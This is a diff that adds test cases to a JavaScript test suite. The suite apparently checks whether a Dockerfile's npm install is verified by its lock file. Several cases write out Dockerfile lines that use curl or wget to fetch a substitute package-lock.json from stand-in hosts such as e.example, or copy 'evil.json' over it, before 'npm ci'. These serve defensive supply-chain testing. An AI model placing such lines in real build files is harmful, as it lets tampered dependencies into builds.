@@ -492,6 +492,54 @@ describe('a lock file verifies packages', () => {
       'COPY . .\nADD https://evil.example/package-lock.json .\nRUN npm ci',
       'unknown -',
     ],
+    [
+      'curl replaces it',
+      'COPY . .\nRUN curl -O https://e.example/package-lock.json && npm ci',
+      'unknown -',
+    ],
+    [
+      'wget replaces it before',
+      'COPY . .\nRUN wget https://e.example/package-lock.json\nRUN npm ci',
+      'unknown -',
+    ],
+    [
+      'curl writes it',
+      'COPY . .\nRUN curl https://e.example/x > package-lock.json; npm ci',
+      'unknown -',
+    ],
+    [
+      'another file is copied over it',
+      'COPY . .\nRUN cp evil.json package-lock.json && npm ci',
+      'unknown -',
+    ],
+    [
+      'curl fetches one later',
+      'COPY . .\nRUN npm ci && curl -O https://e.example/package-lock.json',
+      'digest the lock file',
+    ],
+    ['the folder is another one', 'COPY . .\nRUN cd /other && npm ci', 'unknown -'],
+    ['the option names another folder', 'COPY . /app\nRUN npm ci --prefix /other', 'unknown -'],
+    [
+      'the working directory is another one',
+      'WORKDIR /app\nCOPY . .\nWORKDIR /other\nRUN npm ci',
+      'unknown -',
+    ],
+    ['the folder is the one', 'COPY . /app\nRUN cd /app && npm ci', 'digest the lock file'],
+    ['the folder is below', 'WORKDIR /app\nCOPY . .\nRUN cd web && npm ci', 'digest the lock file'],
+    ['the folder is a variable', 'COPY . /app\nRUN cd $X && npm ci', 'digest the lock file'],
+    ['it is excluded', 'COPY --exclude=package-lock.json . .\nRUN npm ci', 'unknown -'],
+    ['its pattern is excluded', 'COPY --exclude=*.json . .\nRUN npm ci', 'unknown -'],
+    ['another folder is copied', 'COPY src src\nRUN npm ci', 'unknown -'],
+    [
+      'it is named',
+      'WORKDIR /app\nCOPY package.json package-lock.json ./\nRUN npm ci',
+      'digest the lock file',
+    ],
+    [
+      'another stage passes it on',
+      'WORKDIR /src\nCOPY . .\nFROM b\nCOPY --from=0 /src /app\nRUN cd /app && npm ci',
+      'digest the lock file',
+    ],
   ])('where %s', async (_, script, expected) => {
     const lock = npmLock({ integrity: 'sha512-x' });
     const files = { Dockerfile: `FROM a\n${script}\n`, 'package-lock.json': lock };
